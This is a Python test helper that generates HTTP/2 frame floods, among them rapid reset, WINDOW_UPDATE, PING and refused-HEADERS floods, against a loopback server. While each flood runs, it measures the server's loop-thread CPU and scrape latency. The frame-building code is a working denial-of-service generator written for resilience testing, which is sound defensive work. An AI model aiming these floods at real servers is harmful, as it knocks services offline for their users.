"""HTTP/2 frame floods that ask nothing of the server, and the measure of what they cost it: shared by
test_http2_frame_floods.py and usable by hand to measure (loop threads' CPU, scrape latency under the flood):

    python tests/attack/h2_flood.py --port PORT --pid PID --kind window_update --seconds 3 --connections 2

Loopback only; every loop is bounded in count and time."""

import argparse
import os
import socket
import struct
import threading
import time
import urllib.error
import urllib.request

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 2, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 8
KINDS = ("priority", "window_update", "empty_data", "unknown", "ping", "rapid_reset", "refused_headers")


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request_block(encoder, method="GET", path="/-/healthy"):
    return encoder.encode([(":method", method), (":path", path), (":scheme", "http"), (":authority", "x")])


def upload_block(encoder):
    """A POST whose body the exporter admits and waits for: its stream stays open."""
    return encoder.encode([(":method", "POST"), (":path", "/api/v1/models/fraud/predictions"), (":scheme", "http"),
                           (":authority", "x"), ("content-type", "application/json")])


def opening(kind, encoder):
    """The bytes a flood of `kind` starts with: the preface, SETTINGS (acknowledged, except where the flood needs
    the peer to stay before its acknowledgement), and for empty DATA an open request stream."""
    start = PREFACE + frame(SETTINGS, 0, 0)
    if kind != "refused_headers":
        start += frame(SETTINGS, ACK, 0)
    if kind == "empty_data":
        start += frame(HEADERS, END_HEADERS, 1, upload_block(encoder))
    if kind == "refused_headers":
        # 100 streams that never end fill SETTINGS_MAX_CONCURRENT_STREAMS; every further HEADERS is refused.
        for stream in range(1, 201, 2):
            start += frame(HEADERS, END_HEADERS, stream, upload_block(encoder))
    return start


class Flood:
    """Generates the frames of a flood in batches of about 64 KiB; `next_batch` is called by the sender."""

    def __init__(self, kind):
        self.kind = kind
        self.encoder = hpack.Encoder()
        self.stream = 201 if kind == "refused_headers" else 1
        self.count = 0

    def next_batch(self):
        kind = self.kind
        if kind == "priority":
            one = frame(PRIORITY, 0, 3, struct.pack(">IB", 0, 15))
        elif kind == "window_update":
            one = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
        elif kind == "empty_data":
            one = frame(DATA, 0, 1)
        elif kind == "unknown":
            one = frame(0xEE, 0, 0)
        elif kind == "ping":
            one = frame(PING, 0, 0, b"12345678")
        else:
            batch = b""
            for _ in range(256):
                self.stream += 2
                if kind == "rapid_reset":
                    batch += frame(HEADERS, END_HEADERS | END_STREAM, self.stream, request_block(self.encoder))
                    batch += frame(RST_STREAM, 0, self.stream, struct.pack(">I", CANCEL))
                else:
                    batch += frame(HEADERS, END_HEADERS, self.stream, upload_block(self.encoder))
            self.count += 256
            return batch
        self.count += 4096
        return one * 4096


def flood_connection(port, kind, deadline, stats):
    """Sends a flood of `kind` until `deadline` (monotonic) or the server closes; reads and drops what the server
    sends. Records frames sent and whether the server closed in `stats` (a dict)."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=2)
    flood = Flood(kind)
    closed = threading.Event()

    def drain():
        try:
            while time.monotonic() < deadline + 1:
                try:
                    if not sock.recv(65536):
                        closed.set()
                        return
                except socket.timeout:
                    continue
        except OSError:
            closed.set()

    reader = threading.Thread(target=drain, daemon=True)
    reader.start()
    try:
        sock.sendall(opening(kind, flood.encoder))
        while time.monotonic() < deadline and not closed.is_set():
            sock.sendall(flood.next_batch())
    except OSError:
        pass
    reader.join(timeout=max(0.0, deadline + 2 - time.monotonic()))
    stats.setdefault("frames", []).append(flood.count)
    stats.setdefault("closed", []).append(closed.is_set())
    sock.close()


def loop_cpu_seconds(pid):
    """CPU seconds (user + system) of each `http-loop-*` thread of process `pid`."""
    result = {}
    for tid in os.listdir(f"/proc/{pid}/task"):
        try:
            name = open(f"/proc/{pid}/task/{tid}/comm").read().strip()
            if not name.startswith("http-loop"):
                continue
            fields = open(f"/proc/{pid}/task/{tid}/stat").read().rsplit(")", 1)[1].split()
        except OSError:
            continue
        result[name] = (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
    return result


def measure(port, pid, kind, seconds=3.0, connections=1, scrape_path="/metrics"):
    """Floods with `connections` connections of `kind` for `seconds` while scraping every 50 ms. Returns a dict:
    frames sent and connections closed by the server, each loop's busy share, the scrape latencies (seconds)."""
    stats = {}
    cpu_before = loop_cpu_seconds(pid)
    started = time.monotonic()
    deadline = started + seconds
    threads = [threading.Thread(target=flood_connection, args=(port, kind, deadline, stats), daemon=True)
               for _ in range(connections)]
    for thread in threads:
        thread.start()
    latencies, refused = [], 0
    while time.monotonic() < deadline:
        begin = time.monotonic()
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{port}{scrape_path}", timeout=10) as response:
                response.read()
        except urllib.error.HTTPError:
            refused += 1  # e.g. 503 at --web.max-requests
        latencies.append(time.monotonic() - begin)
        pause = 0.05 - (time.monotonic() - begin)
        if pause > 0:
            time.sleep(pause)  # paces the scrapes (a measurement interval, not synchronisation)
    for thread in threads:
        thread.join(timeout=5)
    elapsed = time.monotonic() - started
    cpu_after = loop_cpu_seconds(pid)
    busy = {name: (cpu_after[name] - cpu_before.get(name, 0.0)) / elapsed for name in cpu_after}
    latencies.sort()
    return {
        "frames": stats.get("frames", []), "closed": stats.get("closed", []), "busy": busy,
        "scrapes": len(latencies), "refused": refused, "p50": latencies[len(latencies) // 2] if latencies else None,
        "max": latencies[-1] if latencies else None,
    }


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--pid", type=int, required=True)
    parser.add_argument("--kind", choices=KINDS + ("all",), default="all")
    parser.add_argument("--seconds", type=float, default=3.0)
    parser.add_argument("--connections", type=int, default=1)
    args = parser.parse_args()
    for kind in KINDS if args.kind == "all" else (args.kind,):
        result = measure(args.port, args.pid, kind, args.seconds, args.connections)
        busy = ", ".join(f"{name} {share:.0%}" for name, share in sorted(result["busy"].items()))
        print(f"{kind:16} frames sent {sum(result['frames']):>9} closed {result['closed']} | {busy} | "
              f"scrapes {result['scrapes']} ({result['refused']} refused) p50 {result['p50'] * 1000:.1f} ms max {result['max'] * 1000:.1f} ms")
